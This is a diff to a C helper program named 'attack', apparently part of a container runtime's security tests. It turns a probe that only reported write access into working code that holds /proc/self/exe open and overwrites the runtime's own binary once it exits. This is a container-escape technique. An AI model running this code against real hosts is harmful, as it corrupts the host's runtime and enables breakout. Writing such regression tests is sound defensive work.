@@ -90,27 +90,31 @@ static int cmd_ctty(void)
 }
 
 /*
- * overwrite: the end of an attack on the runtime's binary. Run as that binary's loader or instead
- * of it, it holds /proc/self/exe open, lets the runtime go away and opens it for writing.
+ * takeover: run in place of a program's loader, holds that program open and makes way for reopen.
+ * reopen FD: once nobody runs what FD is open on, opens it for writing and spoils it.
  */
-static int cmd_overwrite(char **argv)
+static int cmd_takeover(void)
 {
-    char again[64];
-    int fd = open(argv[0], O_RDONLY | O_CLOEXEC);
-    if (fd < 0)
-        return fail(argv[0]);
-    snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
-    for (int i = 0; i < 2000; i++) {
-        if (open(again, O_WRONLY | O_CLOEXEC) >= 0) {
-            puts("writable");
-            return 0;
-        }
+    char fd[16], name[] = "attack", command[] = "reopen";
+    char *const argv[] = {name, command, fd, NULL};
+    snprintf(fd, sizeof fd, "%d", open("/proc/self/exe", O_RDONLY));
+    execv("/bin/attack", argv);
+    return fail("/bin/attack");
+}
+
+static int cmd_reopen(char **argv)
+{
+    char link[64];
+    snprintf(link, sizeof link, "/proc/self/fd/%s", argv[0]);
+    for (int i = 0; i < 3000; i++) {
+        int fd = open(link, O_WRONLY | O_CLOEXEC);
+        if (fd >= 0)
+            return write(fd, "spoilt", 6) == 6 ? 0 : fail("write");
         if (errno != ETXTBSY)
             break;
         usleep(1000);
     }
-    printf("refused: %s\n", strerror(errno));
-    return 0;
+    return fail(link);
 }
 
 int main(int argc, char **argv)
@@ -126,8 +130,10 @@ int main(int argc, char **argv)
         return cmd_fds();
     if (!strcmp(name, "ctty"))
         return cmd_ctty();
-    if (!strcmp(name, "overwrite") && argc == 3)
-        return cmd_overwrite(argv + 2);
-    fprintf(stderr, "usage: attack swap|takepid|push|fds|ctty|overwrite ...\n");
+    if (!strcmp(name, "takeover"))
+        return cmd_takeover();
+    if (!strcmp(name, "reopen") && argc == 3)
+        return cmd_reopen(argv + 2);
+    fprintf(stderr, "usage: attack swap|takepid|push|fds|ctty|takeover|reopen ...\n");
     return 125;
 }
